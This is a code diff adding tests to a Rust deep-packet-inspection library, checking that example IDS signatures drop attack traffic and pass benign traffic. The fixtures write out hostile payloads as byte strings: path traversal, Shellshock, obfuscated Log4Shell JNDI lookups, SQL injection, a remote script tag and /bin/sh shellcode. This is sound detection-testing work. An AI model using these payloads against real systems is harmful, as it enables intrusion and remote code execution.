@@ -5,7 +5,9 @@
 mod common;
 
 use std::collections::BTreeMap;
+use std::fs;
 use std::net::IpAddr;
+use std::path::Path;
 
 use aho_corasick::AhoCorasick;
 use myelin_functions::dpi::{self, library};
@@ -14,7 +16,7 @@ use myelin_packet::fixtures::{self, build};
 use myelin_packet::{Meta, checksum, parse};
 use myelin_spec::{
     DpiAction, DpiConfig, DpiFragments, FunctionConfig, FunctionInstance, MirrorConfig, Pattern,
-    PatternList, Side, StateKey,
+    PatternList, Side, Source, StateKey, parse as parse_chains,
 };
 use proptest::prelude::*;
 use regex::bytes::RegexBuilder;
@@ -352,6 +354,11 @@ fn what_the_library_rejects_is_told_with_its_place() {
         "{words}"
     );
     assert_eq!(told(&[("a*", Drop)]).0, 1); // matches what is empty
+    let (_, words) = told(&[(&format!("\x1b[2J({}", "a".repeat(100)), Drop)]);
+    assert!(
+        words.contains(&format!("/ [2J({}...", "a".repeat(55))),
+        "{words}"
+    );
     assert_eq!(told(&[("a", Drop), ("b", Drop), ("(?<=x)c\\1", Drop)]).0, 3);
 }
 
@@ -382,6 +389,45 @@ fn the_next_generation_takes_the_compiled_patterns_over() {
     assert!(finds(&mut *two, b"NEEDLE") && !finds(&mut *three, b"NEEDLE"));
     drop(states);
     assert!(finds(&mut *three, b"OTHER") && !finds(&mut *two, b"OTHER"));
+}
+
+/// The signatures of `examples/ids.yaml` find what they are for, and what a probe sends is none of it.
+#[test]
+fn the_signatures_of_the_example_find_what_they_are_for() {
+    if !is_here() {
+        return;
+    }
+    let directory = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../examples");
+    let read = |name: &str| fs::read_to_string(directory.join(name)).unwrap();
+    let name = "rules/ids.patterns".to_owned();
+    let files = BTreeMap::from([(name.clone(), read(&name))]);
+    let chains = parse_chains(&read("ids.yaml"), &Source::new("ids.yaml"), &files).unwrap();
+    let mut function = instantiate(&chains[0].functions[0].config).unwrap();
+    for (payload, dropped) in [
+        (&b"GET /../../etc/passwd"[..], true),
+        (b"GET /..\\..\\windows\\system32", true),
+        (b"User-Agent: () { :;}; /bin/id", true),
+        (b"x=${jndi:ldap://192.0.2.1/a}", true),
+        (b"x=${${lower:j}ndi:RMI://192.0.2.1/a}", true),
+        (b"id=1 UNION ALL SELECT name\nFROM users ", true),
+        (b"name=x' OR '1'='1", true),
+        (b"<SCRIPT src=//192.0.2.1>", true),
+        (&[0x90; 24], true),
+        (b"\x31\xc0\x68//sh\x68/bin\x89\xe3", true),
+        (
+            b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
+            true,
+        ),
+        (b"GET / HTTP/1.1\r\nUser-Agent: curl\r\n", false),
+        (b"please select one from the union of both", false),
+        (&[0x90; 23], false),
+    ] {
+        let verdict = run(&mut *function, &udp(payload)).0;
+        assert_eq!(verdict.is_none(), dropped, "{}", payload.escape_ascii());
+    }
+    let suspicious = udp(b"User-Agent: SQLmap/1.0");
+    let (out, _) = run(&mut *function, &suspicious);
+    assert_eq!(out.map(|out| out[15]), Some(8 << 2));
 }
 
 /// Few letters, so that matches are likely.
